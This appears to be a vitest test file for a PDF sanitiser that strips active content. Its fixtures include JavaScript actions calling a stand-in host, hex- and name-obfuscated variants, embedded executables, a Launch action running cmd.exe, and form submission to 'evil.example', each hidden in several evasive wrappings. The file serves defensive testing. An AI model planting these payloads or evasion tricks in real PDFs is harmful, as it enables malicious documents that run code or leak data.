import { deflateSync, inflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { withoutMetadata } from './without-metadata.ts';

const script = 'app.launchURL("https://evil.example")';

/** What each of these makes a reader do, and the name without which it does nothing. */
const dangers: [name: string, object: string][] = [
  ['OpenAction', '<< /Type /Catalog /OpenAction 9 0 R >>'],
  ['OpenAction', '<< /Type /Catalog /Open#41ction 9 0 R >>'],
  ['AA', '<< /Type /Page /AA << /O 9 0 R >> >>'],
  ['JavaScript', `<< /S /JavaScript /JS (${script}) >>`],
  ['JavaScript', '<< /Names << /JavaScript << /Names [(a) 9 0 R] >> >> >>'],
  ['JavaScript', '<< /S/J#61va#53cript/JS 9 0 R >>'],
  ['JS', `<< /S /Rendition /JS (${script}) >>`],
  ['JS', `<</S/Rendition/JS<${Buffer.from(script).toString('hex')}>>>`],
  ['EmbeddedFiles', '<< /Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> >>'],
  ['EF', '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'],
  ['Launch', '<< /S /Launch /Win << /F (cmd.exe) >> >>'],
  ['XFA', '<< /Type /Catalog /AcroForm << /Fields [] /XFA [(template) 9 0 R] >> >>'],
  ['SubmitForm', '<< /S /SubmitForm /F (https://evil.example) >>'],
];

const wrappings: [name: string, wrap: (object: string) => Buffer][] = [
  ['plainly', (object) => Buffer.from(`4 0 obj\n${object}\nendobj\n`)],
  ['in an object stream', (object) => objectStream(object, '/Type /ObjStm /N 1 /First 4')],
  [
    'in an object stream that is not packed',
    (object) => stream('/Type /ObjStm /N 1 /First 4', Buffer.from(`4 0 ${object}`)),
  ],
  ['in an object stream that does not call itself one', (object) => objectStream(object, '/N 1 /First 4')],
  ['in an object stream that hides its name', (object) => objectStream(object, '/Type /O#62jStm /N 1 /F#69rst 4')],
  ['in a page that is not packed', (object) => stream('', Buffer.from(`4 0 obj\n${object}\nendobj`))],
  [
    'after a word that only looks like a stream',
    (object) => Buffer.from(`% >> stream\n4 0 obj\n${object}\nendobj\n%endstream\n`),
  ],
];

function stream(terms: string, body: Buffer): Buffer {
  const head = `3 0 obj\n<< ${terms} /Length ${body.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), body, Buffer.from('\nendstream\nendobj\n')]);
}

function objectStream(object: string, terms: string): Buffer {
  return stream(`${terms} /Filter /FlateDecode`, deflateSync(`4 0 ${object}`, { level: 1 }));
}

function pdf(...parts: readonly Buffer[]): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    ...parts,
    stream('/Filter /FlateDecode', deflateSync('BT (Paid in full) Tj ET')),
    Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ]);
}

/** All that a reader finds, packed or not, with its names read as they are meant. */
function unfolded(bytes: Buffer): string {
  const text = bytes.toString('latin1');
  const bodies = [...text.matchAll(/FlateDecode[^]*?stream\n([^]*?)\nendstream/g)].map(([, body = '']) =>
    inflateSync(Buffer.from(body, 'latin1')).toString('latin1'),
  );
  const all = [text, ...bodies].join('\n');
  return all.replaceAll(/#([0-9a-f]{2})/gi, (_, hex: string) => Buffer.from(hex, 'hex').toString('latin1'));
}

const cases = dangers.flatMap(([name, object]) =>
  wrappings.map(([how, wrap]) => ({ name, how, object, sent: pdf(wrap(object)) })),
);

test.each(cases)('a PDF loses its /$name that stands $how: $object', async ({ name, sent }) => {
  const word = new RegExp(`/${name}(?![A-Za-z])`);
  expect(unfolded(sent)).toMatch(word);
  const kept = await withoutMetadata(sent);
  expect(kept.length).toBe(sent.length);
  expect(unfolded(kept)).not.toMatch(word);
  expect(unfolded(kept)).toContain('(Paid in full)');
  expect(kept.indexOf('trailer')).toBe(sent.indexOf('trailer'));
});

test('the text of a script goes with its name', async () => {
  const sent = pdf(Buffer.from(`4 0 obj\n<< /S /JavaScript /JS (${script}) >>\nendobj\n`));
  expect((await withoutMetadata(sent)).toString('latin1')).not.toContain('evil');
});

test('a link on a page, a form field and a name that only begins alike stay', async () => {
  const object = '<< /A << /S /URI /URI (https://bank.example) >> /T (Sum) /AAPL 1 /JSON 2 /JavaScriptless 3 >>';
  for (const [, wrap] of wrappings.slice(0, 3)) {
    const sent = pdf(wrap(object));
    expect(await withoutMetadata(sent)).toEqual(sent);
  }
});

test.each([
  [
    'stands plainly inside what says that it is packed',
    stored(Buffer.from('4 0 obj << /S /JavaScript /JS 9 0 R >> endobj')),
  ],
  ['is packed in a way that is not read', stream('/N 1 /First 4 /Filter /LZWDecode', Buffer.from('x'))],
  ['is packed twice', stream('/N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('x'))],
  ['hides that it is packed', stream('/N 1 /First 4 /F#69lter /FlateDecode', Buffer.from('x'))],
  [
    'lies in a stream without an end',
    Buffer.from('3 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n4 0 << /JS 9 0 R >>'),
  ],
  ['is encrypted under a hidden name', Buffer.from('5 0 obj << /Encr#79pt 6 0 R >> endobj\n')],
])('a PDF is not taken where what it may do %s', async (_, part) => {
  const sent = Buffer.concat([Buffer.from('%PDF-1.7\n'), part]);
  await expect(withoutMetadata(sent)).rejects.toMatchObject({ name: 'FileNotAccepted', reason: 'unreadable' });
});

/** Packed without being made smaller: its bytes stand in the file as they are. */
function stored(body: Buffer): Buffer {
  return stream('/Filter /FlateDecode', deflateSync(body, { level: 0 }));
}
